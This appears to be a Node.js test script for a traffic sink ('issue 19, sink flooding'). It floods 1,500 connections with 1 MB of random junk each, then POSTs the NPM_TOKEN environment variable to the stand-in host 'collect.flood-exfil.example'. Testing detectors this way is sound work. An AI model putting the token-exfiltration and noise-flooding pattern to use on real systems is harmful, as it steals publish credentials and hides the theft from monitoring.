// Test package (issue 19, sink flooding): 1,500 connections to assorted hosts and ports,
// each sending 1 MB of random junk (raw or as an HTTP POST body) and left open; then one
// small POST carrying the NPM_TOKEN env var. All of it lands in the sink.
const net = require('net'), http = require('http'), crypto = require('crypto');
const junk = crypto.randomBytes(1 << 20), N = 1500, ports = [80, 443, 8080, 25, 6667, 9999];
let done = 0, sent = false;
function exfil() {
  if (sent) return; sent = true;
  const req = http.request({ host: 'collect.flood-exfil.example', path: '/c', method: 'POST',
    headers: { 'content-type': 'application/json' } }, (r) => { r.resume(); r.on('end', () => process.exit(0)); });
  req.on('error', () => process.exit(0));
  req.end(JSON.stringify({ t: process.env.NPM_TOKEN }));
}
const one = () => { if (++done === N) exfil(); };
for (let i = 0; i < N; i++) {
  const host = i % 3 ? `10.${(i >> 8) & 255}.${i & 255}.${1 + (i % 200)}` : `h${i}.flood.example`;
  const s = net.connect({ host, port: ports[i % 6] }, () => {
    if (i % 2) s.write(`POST /u${i} HTTP/1.1\r\nHost: ${host}\r\nContent-Length: ${junk.length}\r\n\r\n`);
    s.write(junk, one);
  });
  s.on('error', one);
}
setTimeout(exfil, 90000);
